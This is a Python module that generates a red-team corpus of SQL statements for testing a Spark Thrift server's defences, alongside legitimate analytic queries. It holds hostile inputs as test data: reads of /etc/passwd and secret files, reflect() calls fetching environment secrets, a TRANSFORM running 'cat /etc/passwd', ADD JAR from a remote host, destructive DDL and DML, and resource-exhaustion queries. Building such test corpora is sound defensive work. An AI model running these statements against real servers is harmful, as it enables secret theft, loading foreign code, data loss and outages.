"""Issue 54's Spark red team: what a reader could make Spark's Thrift server do beyond a query.

The statements are a deterministic product of small lists, over the tables of the demo's Spark
copy, in four families:

* `substitution`: Spark's `${env:...}`, `${system:...}`, `${sparkconf:...}`, `${hiveconf:...}`
  and `${spark...}` in every place a statement can hold text (a string, a back-quoted name, a
  comment, a hint, bare) — the server would put its environment, class path and settings there;
* `metadata`: the hidden `_metadata` column of file tables and the input_file_*() functions
  (the data files' paths, sizes and times);
* `dos`: joins that compare no keys, collect_*() over them, window frames that grow,
  functions that allocate their result at once (repeat, space, lpad, printf, array_repeat,
  sequence), hints, recursion — each must be refused or end at its time limit, and the server
  answer a trivial query within 5 s afterwards;
* `wall`: settings, scripts, variables, JDBC and file sources, ADD JAR, DDL and DML, catalog
  reads that show file paths — nothing may change the catalog or the data, or read a file.

Each template comes in spellings (`VARIANTS`: lower case, spread over lines, comments between
the words) that matter to a validator and a parser but not to what the statement means. What a
statement may not do is judged in tests/test_spark_redteam.py; `LEGITIMATE` are 50 analytic
queries every path must run.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

# Planted where a substitution would read it: an environment variable of the process that
# starts the server (`serve` must not hand it on), and the server's own variables.
ENV_SECRET_NAME = "GROUNDSQL_REDTEAM_ENV_SECRET"


@dataclass(frozen=True)
class Statement:
    sql: str
    family: str
    variant: str = "canonical"


# -- spellings ----------------------------------------------------------------------------------

_KEYWORDS = re.compile(r"\b(SELECT|FROM|WHERE|JOIN|ON|GROUP BY|ORDER BY|AS|AND|OR|LIMIT|WITH|UNION ALL|SET|"
                       r"CREATE|TABLE|VIEW|INSERT|INTO|DROP|USING|OPTIONS|ADD|JAR|CROSS|LEFT|OVER|BY)\b")


def _outside_quotes(sql: str, change) -> str:
    """Apply `change` to the parts of `sql` outside '...' and `...` (what a spelling may touch)."""
    parts = re.split(r"('(?:[^'\\]|\\.)*'|`[^`]*`)", sql)
    return "".join(part if i % 2 else change(part) for i, part in enumerate(parts))


VARIANTS = {
    "lower": lambda sql: _outside_quotes(sql, lambda part: _KEYWORDS.sub(lambda m: m.group().lower(), part)),
    "spread": lambda sql: _outside_quotes(sql, lambda part: _KEYWORDS.sub(lambda m: "\n\t" + m.group() + "\n ", part)),
    "commented": lambda sql: _outside_quotes(sql, lambda part: _KEYWORDS.sub(lambda m: "/* x */ " + m.group() + " /**/", part)),
}


def _spelled(sql: str, family: str, variants: tuple[str, ...]) -> list[Statement]:
    found = [Statement(sql, family)]
    for name in variants:
        spelled = VARIANTS[name](sql)
        if spelled != sql:
            found.append(Statement(spelled, family, name))
    return found


# -- substitution -------------------------------------------------------------------------------

SUBSTITUTIONS = (
    f"${{env:{ENV_SECRET_NAME}}}", "${env:SPARK_HOME}", "${env:HOME}", "${env:PATH}", "${ENV:SPARK_HOME}",
    "${system:java.class.path}", "${system:user.dir}", "${system:sun.java.command}", "${system:java.io.tmpdir}",
    "${sparkconf:spark.groundsql.passwordSha256}", "${spark.groundsql.passwordSha256}", "${spark.local.dir}",
    "${hiveconf:hive.server2.custom.authentication.class}", "${hivevar:groundsql}", "${spark.sql.warehouse.dir}",
)
_SUBSTITUTION_PLACES = (
    "SELECT '{p}' AS x",
    "SELECT 1 AS `{p}`",
    "SELECT company_name FROM company WHERE company_name = '{p}'",
    "SELECT company_name FROM company WHERE website LIKE '%{p}%' LIMIT 3",
    "SELECT concat(company_name, '{p}') AS x FROM company LIMIT 1",
    "SELECT CAST('{p}' AS INT) AS x",
    "SELECT 1 AS x -- {p}",
    "SELECT 1 AS x /* {p} */",
    "SELECT /*+ {p} */ 1 AS x",
    "SELECT `{p}` FROM company",
    "SELECT * FROM `{p}`",
    "SELECT {p}",
    "SELECT company_id FROM company WHERE company_id = {p}",
    "SELECT upper('{p}') AS x, '{p}' = '{p}' AS same",
)


def substitution() -> list[Statement]:
    return [s for place in _SUBSTITUTION_PLACES for payload in SUBSTITUTIONS
            for s in _spelled(place.replace("{p}", payload), "substitution", ("lower", "commented"))]


# -- hidden file metadata ---------------------------------------------------------------------------

_METADATA = (
    "SELECT _metadata FROM company",
    "SELECT _metadata.file_path FROM company",
    "SELECT _metadata.file_name, _metadata.file_size, _metadata.file_modification_time FROM company",
    "SELECT c._metadata.file_path FROM company AS c",
    "SELECT `_metadata`.`file_path` FROM company",
    "SELECT _METADATA.FILE_PATH FROM company",
    "SELECT to_json(_metadata) AS m FROM company",
    "SELECT struct(_metadata) AS m FROM company",
    "SELECT company_id FROM company WHERE _metadata.file_path LIKE '%parquet%'",
    "SELECT company_id FROM company ORDER BY _metadata.file_size",
    "SELECT count(*) FROM company GROUP BY _metadata.file_path",
    "SELECT x FROM (SELECT _metadata.file_path AS x FROM company) AS s",
    "WITH a AS (SELECT _metadata AS m FROM company) SELECT m.file_path FROM a",
    "SELECT max(_metadata.file_path) AS p FROM price_daily",
    "SELECT _metadata.file_block_start, _metadata.file_block_length FROM company",
    "SELECT _metadata.row_index FROM company",
    "SELECT company_id FROM company WHERE EXISTS (SELECT 1 FROM ref_country AS r WHERE r._metadata.file_path IS NOT NULL)",
    "SELECT input_file_name() AS f FROM company",
    "SELECT input_file_block_start() AS f FROM company",
    "SELECT input_file_block_length() AS f FROM company",
    "SELECT DISTINCT input_file_name() AS f FROM price_daily",
    "SELECT company_id FROM company WHERE input_file_name() LIKE '%company%'",
    "SELECT c.company_id, r._metadata.file_name FROM company AS c JOIN ref_country AS r ON c.country_id = r.country_id",
    "SELECT company_id FROM company UNION ALL SELECT length(_metadata.file_path) FROM company",
)


def metadata() -> list[Statement]:
    return [s for sql in _METADATA for s in _spelled(sql, "metadata", ("lower", "spread", "commented"))]


# -- denial of service ------------------------------------------------------------------------------

_DOS = (
    # Joins that compare no keys (3e8 pairs a pair of price_daily, 6e12 three).
    "SELECT count(*) FROM price_daily AS a JOIN price_daily AS b ON a.close_price < b.close_price "
    "JOIN price_daily AS c ON b.close_price < c.close_price",
    "SELECT count(*) FROM price_daily AS a JOIN price_daily AS b ON a.open_price <> b.open_price "
    "JOIN price_daily AS c ON a.low_price < c.high_price",
    "SELECT count(*) FROM price_daily AS a, price_daily AS b, price_daily AS c WHERE a.volume > b.volume AND b.volume > c.volume",
    "SELECT count(*) FROM price_daily AS a CROSS JOIN price_daily AS b CROSS JOIN price_daily AS c",
    "SELECT count(*) FROM price_daily AS a CROSS JOIN price_daily AS b CROSS JOIN financial_data AS d",
    "SELECT count(*) FROM price_daily AS a LEFT JOIN price_daily AS b ON a.close_price BETWEEN b.low_price AND b.high_price "
    "LEFT JOIN financial_data AS d ON d.data_value > a.close_price",
    "SELECT count(*) FROM financial_data AS a JOIN financial_data AS b ON abs(a.data_value - b.data_value) < 1 "
    "JOIN price_daily AS c ON c.close_price < a.data_value",
    "SELECT count(*) FROM price_daily AS a JOIN price_daily AS b ON a.close_price < b.close_price OR a.volume = b.volume "
    "JOIN price_daily AS c ON b.volume < c.volume",
    "SELECT count(*) FROM price_daily AS a WHERE EXISTS (SELECT 1 FROM price_daily AS b JOIN price_daily AS c "
    "ON b.close_price < c.close_price WHERE a.close_price < b.close_price)",
    # Within the cost gate, but minutes of md5 on two cores: must end at the time limit.
    "SELECT count(*) FROM price_daily AS a JOIN price_daily AS b ON md5(CAST(a.close_price + b.close_price AS STRING)) < 'a'",
    # Values collected into arrays, over key joins that multiply rows and over growing windows.
    "SELECT size(collect_list(a.close_price)) AS n FROM price_daily AS a JOIN price_daily AS b ON a.trading_item_id = b.trading_item_id",
    "SELECT size(collect_set(a.price_date)) AS n FROM price_daily AS a JOIN price_daily AS b ON a.trading_item_id = b.trading_item_id",
    "SELECT size(array_agg(a.volume)) AS n FROM price_daily AS a JOIN price_daily AS b ON a.trading_item_id = b.trading_item_id",
    "SELECT percentile(a.close_price, 0.5) AS p FROM price_daily AS a JOIN price_daily AS b ON a.trading_item_id = b.trading_item_id",
    "SELECT median(a.close_price) AS p FROM price_daily AS a JOIN price_daily AS b ON a.trading_item_id = b.trading_item_id",
    "SELECT mode(a.volume) AS p FROM price_daily AS a JOIN price_daily AS b ON a.trading_item_id = b.trading_item_id",
    "SELECT length(concat_ws(',', collect_list(CAST(a.close_price AS STRING)))) AS n FROM price_daily AS a "
    "JOIN price_daily AS b ON a.trading_item_id = b.trading_item_id",
    "SELECT max(size(x)) AS n FROM (SELECT collect_list(close_price) OVER (ORDER BY price_date) AS x FROM price_daily) AS s",
    "SELECT max(size(x)) AS n FROM (SELECT collect_list(close_price) OVER (ORDER BY price_date ROWS BETWEEN UNBOUNDED "
    "PRECEDING AND CURRENT ROW) AS x FROM price_daily) AS s",
    "SELECT max(size(x)) AS n FROM (SELECT collect_set(volume) OVER (PARTITION BY 1) AS x FROM price_daily) AS s",
    "SELECT max(size(x)) AS n FROM (SELECT collect_list(data_value) OVER (ORDER BY financial_period_id) AS x "
    "FROM financial_data) AS s",
    # Functions that allocate their whole result at once.
    "SELECT length(repeat('x', 2000000000)) AS n",
    "SELECT length(repeat(company_name, 100000000)) AS n FROM company",
    "SELECT length(repeat(repeat('x', 100000), 100000)) AS n",
    "SELECT length(space(2000000000)) AS n",
    "SELECT length(lpad('x', 2000000000, 'y')) AS n",
    "SELECT length(rpad(company_name, 2000000000, 'y')) AS n FROM company",
    "SELECT length(printf('%999999999d', 1)) AS n",
    "SELECT length(format_string('%-999999999s', company_name)) AS n FROM company",
    "SELECT size(array_repeat(1, 2000000000)) AS n",
    "SELECT size(array_repeat(company_name, 100000000)) AS n FROM company",
    "SELECT size(sequence(1, 2000000000)) AS n",
    "SELECT count(*) FROM (SELECT explode(sequence(1, 100000000)) AS v) AS s",
    "SELECT size(sequence(to_date('0001-01-01'), to_date('9999-12-31'), interval 1 day)) AS n",
    "SELECT length(repeat(lpad('x', 1000000, 'y'), 1000)) AS n",
    "SELECT length(concat_ws('', array_repeat(repeat('x', 1000), 1000000))) AS n",
    # Hints and recursion.
    "SELECT /*+ REPARTITION(1000000) */ count(*) AS n FROM price_daily",
    "SELECT /*+ BROADCAST(a) */ count(*) AS n FROM price_daily AS a JOIN price_daily AS b ON a.trading_item_id = b.trading_item_id",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) AS n FROM r",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 100000000) SELECT count(*) AS n FROM r",
)


def dos() -> list[Statement]:
    return [s for sql in _DOS for s in _spelled(sql, "dos", ("lower",))]


# -- the server's wall ----------------------------------------------------------------------------

_WALL = (
    # Settings: every way to change one, and to read them all.
    "SET spark.sql.runSQLOnFiles=true", "SET spark.sql.runSQLOnFiles = true", "SET `spark.sql.runSQLOnFiles`=true",
    "SET spark.sql.variable.substitute=true", "SET spark.sql.restrictedMode.enabled=false",
    "SET spark.sql.scripting.enabled=true", "SET spark.sql.thriftServer.queryTimeout=0",
    "SET spark.sql.autoBroadcastJoinThreshold=-1", "SET spark.sql.shuffle.partitions=100000",
    "SET spark.sql.ansi.enabled=false", "SET hivevar:x=1", "SET hiveconf:hive.server2.authentication=NONE",
    "SET -v", "SET", "RESET", "RESET spark.sql.runSQLOnFiles", "SET TIME ZONE 'UTC'",
    "SET spark.groundsql.passwordSha256", "SET spark.driver.extraJavaOptions",
    # Scripts and variables.
    "BEGIN SELECT 1; END", "BEGIN DROP TABLE company; END", "BEGIN DECLARE x INT DEFAULT 1; SELECT x; END",
    "DECLARE VARIABLE v INT DEFAULT 1", "DECLARE OR REPLACE VARIABLE v STRING DEFAULT 'x'", "SET VARIABLE v = 2",
    "EXECUTE IMMEDIATE 'DROP TABLE company'", "EXECUTE IMMEDIATE 'SELECT 1'",
    # JDBC and file sources.
    "CREATE TEMPORARY VIEW j USING jdbc OPTIONS (url 'jdbc:h2:mem:x', dbtable 'x')",
    "CREATE TEMPORARY VIEW f USING text OPTIONS (path '/etc/passwd')",
    "CREATE TEMPORARY VIEW f USING csv OPTIONS (path '@SECRET_FILE@')",
    "SELECT * FROM text.`/etc/passwd`", "SELECT * FROM text.`@SECRET_FILE@`", "SELECT * FROM csv.`@SECRET_FILE@`",
    "SELECT * FROM json.`/etc/hostname`", "SELECT * FROM parquet.`@DATA@/demo/company`",
    "SELECT * FROM binaryFile.`@SECRET_FILE@`", "SELECT * FROM `text`.`/etc/passwd`",
    "SELECT * FROM read_files('/etc/passwd')", "SELECT * FROM read_files('@SECRET_FILE@', format => 'text')",
    "SELECT * FROM IDENTIFIER('text.`/etc/passwd`')", "SELECT * FROM jdbc.`jdbc:h2:mem:x`",
    "SELECT reflect('java.lang.System', 'getenv', '" + ENV_SECRET_NAME + "')",
    "SELECT java_method('java.lang.System', 'getProperty', 'java.class.path')",
    "SELECT try_reflect('java.lang.System', 'exit', 0)",
    "SELECT TRANSFORM(company_id) USING 'cat /etc/passwd' AS (x) FROM company",
    "SELECT * FROM range(10)", "SELECT * FROM explode(array(1, 2))",
    # Jars, files, functions.
    "ADD JAR /tmp/groundsql-none.jar", "ADD JAR 'http://192.0.2.1/x.jar'", "ADD JAR ivy://org.example:evil:1.0",
    "ADD FILE /etc/passwd", "ADD ARCHIVE /tmp/x.zip", "LIST JARS", "LIST FILES",
    "CREATE FUNCTION f AS 'org.apache.spark.sql.hive.HiveUDF' USING JAR '/tmp/x.jar'",
    "CREATE TEMPORARY FUNCTION f AS 'java.lang.Runtime'", "DROP FUNCTION IF EXISTS f",
    # The catalog and the data.
    "DROP DATABASE demo CASCADE", "DROP TABLE company", "DROP TABLE IF EXISTS demo.company", "DROP VIEW IF EXISTS v",
    "CREATE DATABASE groundsql_evil", "CREATE TABLE x (a INT) USING parquet", "CREATE TABLE x AS SELECT * FROM company",
    "CREATE TEMPORARY VIEW v AS SELECT * FROM company", "CREATE OR REPLACE TEMP VIEW company AS SELECT 1 AS company_id",
    "CREATE GLOBAL TEMPORARY VIEW v AS SELECT 1 AS x",
    "INSERT INTO company SELECT * FROM company", "INSERT OVERWRITE TABLE company SELECT * FROM company",
    "INSERT OVERWRITE DIRECTORY '/tmp/groundsql-evil' USING parquet SELECT * FROM company",
    "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/groundsql-evil' SELECT * FROM company",
    "FROM company INSERT INTO company SELECT *", "WITH a AS (SELECT * FROM company) INSERT INTO company SELECT * FROM a",
    "UPDATE company SET employees = 0", "DELETE FROM company", "MERGE INTO company USING company AS s ON 1 = 1 "
    "WHEN MATCHED THEN DELETE", "TRUNCATE TABLE company",
    "ALTER TABLE company SET LOCATION '/tmp'", "ALTER TABLE company RENAME TO company2",
    "ALTER TABLE company SET TBLPROPERTIES ('groundsql.primary_key' = '[]')", "ALTER DATABASE demo SET LOCATION '/tmp'",
    "COMMENT ON TABLE company IS 'x'", "CACHE TABLE company", "CACHE LAZY TABLE c AS SELECT * FROM company",
    "UNCACHE TABLE company", "CLEAR CACHE", "REFRESH TABLE company", "REFRESH '/tmp'", "MSCK REPAIR TABLE company",
    "ANALYZE TABLE company COMPUTE STATISTICS", "LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE company",
    "USE default", "USE NAMESPACE default",
    # Catalog reads that show file paths.
    "DESCRIBE TABLE EXTENDED company", "DESCRIBE EXTENDED company", "DESCRIBE FORMATTED company",
    "DESC TABLE EXTENDED demo.company", "SHOW CREATE TABLE company", "SHOW TABLE EXTENDED LIKE 'company'",
    "SHOW TABLE EXTENDED IN demo LIKE '*'", "DESCRIBE DATABASE EXTENDED demo", "SHOW PARTITIONS company",
    "DESCRIBE FUNCTION EXTENDED reflect", "EXPLAIN SELECT * FROM company", "EXPLAIN EXTENDED SELECT * FROM company",
    "SHOW SYSTEM FUNCTIONS", "SHOW CATALOGS", "SHOW VIEWS", "SHOW COLUMNS IN company",
    # Statements stacked behind a query.
    "SELECT 1; DROP TABLE company", "SELECT 1; SET spark.sql.runSQLOnFiles=true",
    "SELECT 1 AS x; SELECT * FROM text.`/etc/passwd`",
)


def wall() -> list[Statement]:
    return [s for sql in _WALL for s in _spelled(sql, "wall", ("lower", "commented"))]


def corpus() -> list[Statement]:
    """Every statement once (the first spelling wins), in a fixed order."""
    seen: dict[str, Statement] = {}
    for statement in [*substitution(), *metadata(), *dos(), *wall()]:
        seen.setdefault(statement.sql, statement)
    return list(seen.values())


def render(sql: str, placeholders: dict[str, str]) -> str:
    for key, value in placeholders.items():
        sql = sql.replace(key, value)
    return sql


# -- what every path must run -------------------------------------------------------------------------

LEGITIMATE = (
    # Aggregates, ROLLUP, CUBE, GROUPING SETS and grouping().
    "SELECT country_id, count(*) AS n FROM company GROUP BY country_id ORDER BY n DESC, country_id LIMIT 5",
    "SELECT country_id, industry_id, count(*) AS n, grouping(industry_id) AS total FROM company "
    "GROUP BY ROLLUP (country_id, industry_id) ORDER BY country_id, industry_id LIMIT 20",
    "SELECT company_type_id, company_status_id, count(*) AS n FROM company GROUP BY CUBE (company_type_id, company_status_id) "
    "ORDER BY 1, 2 LIMIT 20",
    "SELECT country_id, industry_id, sum(employees) AS staff FROM company GROUP BY GROUPING SETS ((country_id), (industry_id), ()) "
    "ORDER BY 1, 2 LIMIT 20",
    "SELECT r.region, count(*) AS companies, sum(c.employees) AS staff FROM company AS c JOIN ref_country AS r "
    "ON c.country_id = r.country_id GROUP BY r.region ORDER BY staff DESC",
    "SELECT fiscal_year, count(DISTINCT company_id) AS reporting FROM financial_period GROUP BY fiscal_year ORDER BY fiscal_year",
    "SELECT avg(employees) AS mean, stddev(employees) AS sd, min(employees) AS least, max(employees) AS most FROM company",
    "SELECT percentile_approx(close_price, 0.5) AS median_close, approx_count_distinct(trading_item_id) AS items FROM price_daily",
    "SELECT trading_item_id, percentile(close_price, 0.9) AS p90 FROM price_daily GROUP BY trading_item_id ORDER BY 1 LIMIT 10",
    "SELECT max_by(company_name, employees) AS biggest, min_by(company_name, employees) AS smallest FROM company",
    "SELECT count_if(employees > 10000) AS large, count_if(employees <= 10000) AS small FROM company",
    "SELECT industry_id, collect_list(company_name) AS names FROM company GROUP BY industry_id ORDER BY 1 LIMIT 5",
    "SELECT country_id, size(collect_set(industry_id)) AS industries FROM company GROUP BY country_id ORDER BY 2 DESC LIMIT 5",
    "SELECT country_id, sum(employees) AS staff FROM company GROUP BY country_id HAVING sum(employees) > 100000 ORDER BY 2 DESC",
    # Window functions.
    "SELECT company_name, employees, rank() OVER (ORDER BY employees DESC) AS place FROM company ORDER BY place LIMIT 10",
    "SELECT company_name, country_id, row_number() OVER (PARTITION BY country_id ORDER BY employees DESC) AS n "
    "FROM company ORDER BY country_id, n LIMIT 20",
    "SELECT trading_item_id, price_date, close_price, avg(close_price) OVER (PARTITION BY trading_item_id ORDER BY price_date "
    "ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) AS week FROM price_daily ORDER BY 1, 2 LIMIT 20",
    "SELECT trading_item_id, price_date, close_price - lag(close_price) OVER (PARTITION BY trading_item_id ORDER BY price_date) "
    "AS change FROM price_daily ORDER BY 1, 2 LIMIT 20",
    "SELECT trading_item_id, price_date, sum(volume) OVER (PARTITION BY trading_item_id ORDER BY price_date) AS running "
    "FROM price_daily ORDER BY 1, 2 LIMIT 20",
    "SELECT company_name, ntile(4) OVER (ORDER BY employees) AS quartile FROM company ORDER BY 2, 1 LIMIT 20",
    "SELECT company_name, employees, percent_rank() OVER (ORDER BY employees) AS pr, cume_dist() OVER (ORDER BY employees) AS cd "
    "FROM company ORDER BY employees LIMIT 10",
    "SELECT trading_item_id, first_value(close_price) OVER (PARTITION BY trading_item_id ORDER BY price_date) AS first_close, "
    "last_value(close_price) OVER (PARTITION BY trading_item_id ORDER BY price_date ROWS BETWEEN UNBOUNDED PRECEDING AND "
    "UNBOUNDED FOLLOWING) AS last_close FROM price_daily ORDER BY 1 LIMIT 10",
    "SELECT trading_item_id, price_date, collect_list(close_price) OVER (PARTITION BY trading_item_id ORDER BY price_date "
    "ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) AS recent FROM price_daily ORDER BY 1, 2 LIMIT 10",
    "SELECT * FROM (SELECT company_name, country_id, dense_rank() OVER (PARTITION BY country_id ORDER BY employees DESC) AS r "
    "FROM company) AS ranked WHERE r = 1 ORDER BY country_id",
    # CTEs (one named in another letter case), subqueries, set operations.
    "WITH Big AS (SELECT company_id, employees FROM company WHERE employees > 50000) SELECT count(*) AS n FROM big",
    "WITH yearly AS (SELECT fp.company_id, fp.fiscal_year, sum(fd.data_value) AS total FROM financial_data AS fd "
    "JOIN financial_period AS fp ON fd.financial_period_id = fp.financial_period_id WHERE fd.data_item_id = 28 "
    "GROUP BY fp.company_id, fp.fiscal_year) SELECT fiscal_year, max(total) AS top FROM yearly GROUP BY fiscal_year ORDER BY 1",
    "WITH a AS (SELECT country_id, count(*) AS n FROM company GROUP BY country_id), b AS (SELECT max(n) AS m FROM a) "
    "SELECT a.country_id FROM a JOIN b ON a.n = b.m",
    "SELECT company_name FROM company WHERE employees > (SELECT avg(employees) FROM company) ORDER BY company_name LIMIT 10",
    "SELECT company_name FROM company AS c WHERE EXISTS (SELECT 1 FROM security AS s WHERE s.company_id = c.company_id) "
    "ORDER BY 1 LIMIT 10",
    "SELECT company_name FROM company WHERE company_id NOT IN (SELECT company_id FROM security) ORDER BY 1 LIMIT 10",
    "SELECT country_id FROM company UNION SELECT country_id FROM ref_exchange ORDER BY 1",
    "SELECT country_id FROM company INTERSECT SELECT country_id FROM ref_exchange ORDER BY 1",
    "SELECT country_id FROM ref_country EXCEPT SELECT country_id FROM company ORDER BY 1",
    "SELECT c.company_name, (SELECT count(*) FROM security AS s WHERE s.company_id = c.company_id) AS securities "
    "FROM company AS c ORDER BY 2 DESC, 1 LIMIT 5",
    # Joins on keys, a small join on a range (within the cost gate), a self-join on a key.
    "SELECT e.exchange_name, count(*) AS listings FROM trading_item AS t JOIN ref_exchange AS e ON t.exchange_id = e.exchange_id "
    "GROUP BY e.exchange_name ORDER BY 2 DESC LIMIT 5",
    "SELECT p.company_name AS parent, c.company_name AS child FROM company AS c JOIN company AS p "
    "ON c.parent_company_id = p.company_id ORDER BY 1, 2 LIMIT 10",
    "SELECT a.company_name, b.company_name FROM company AS a JOIN company AS b ON a.employees < b.employees "
    "AND a.country_id = b.country_id ORDER BY 1, 2 LIMIT 10",
    "SELECT count(*) AS pairs FROM company AS a JOIN company AS b ON a.founded_year < b.founded_year",
    "SELECT t.transaction_id, c.company_name, r.role_name FROM transaction_participant AS t JOIN company AS c "
    "ON t.company_id = c.company_id JOIN ref_transaction_role AS r ON t.role_id = r.role_id ORDER BY 1 LIMIT 10",
    "SELECT c.company_name, fp.fiscal_year, fd.data_value * ru.multiplier AS revenue FROM financial_data AS fd "
    "JOIN financial_period AS fp ON fd.financial_period_id = fp.financial_period_id JOIN company AS c ON fp.company_id = c.company_id "
    "JOIN ref_unit AS ru ON fd.unit_id = ru.unit_id WHERE fd.data_item_id = 28 ORDER BY revenue DESC LIMIT 5",
    # Dates, strings, conditions, arrays of a few elements.
    "SELECT year(to_date(price_date)) AS y, month(to_date(price_date)) AS m, avg(close_price) AS mean FROM price_daily "
    "GROUP BY 1, 2 ORDER BY 1, 2 LIMIT 12",
    "SELECT date_format(to_date(period_end_date), 'yyyy-MM') AS month, count(*) AS n FROM financial_period "
    "GROUP BY 1 ORDER BY 1 LIMIT 12",
    "SELECT datediff(to_date(closed_date), to_date(announced_date)) AS days FROM ma_transaction WHERE closed_date IS NOT NULL "
    "ORDER BY 1 DESC LIMIT 5",
    "SELECT upper(substring(company_name, 1, 3)) AS prefix, length(company_name) AS len, lpad(CAST(employees AS STRING), 12, ' ') "
    "AS padded FROM company ORDER BY 1 LIMIT 5",
    "SELECT regexp_extract(website, '^https?://([^/]+)', 1) AS host FROM company WHERE website IS NOT NULL ORDER BY 1 LIMIT 5",
    "SELECT CASE WHEN employees >= 100000 THEN 'large' WHEN employees >= 10000 THEN 'medium' ELSE 'small' END AS size, "
    "count(*) AS n FROM company GROUP BY 1 ORDER BY 1",
    "SELECT concat_ws(' ', first_name, last_name) AS name, coalesce(birth_year, 0) AS born FROM person ORDER BY 1 LIMIT 5",
    "SELECT company_name, repeat('*', 5) AS bar, rpad(company_name, 40, '.') AS dotted FROM company ORDER BY employees DESC LIMIT 5",
    "SELECT printf('%s: %,d staff', company_name, employees) AS line FROM company ORDER BY employees DESC LIMIT 3",
    "SELECT element_at(split(ticker_symbol, '\\\\.'), 1) AS root, size(array(1, 2, 3)) AS three FROM trading_item "
    "ORDER BY 1 LIMIT 5",
)
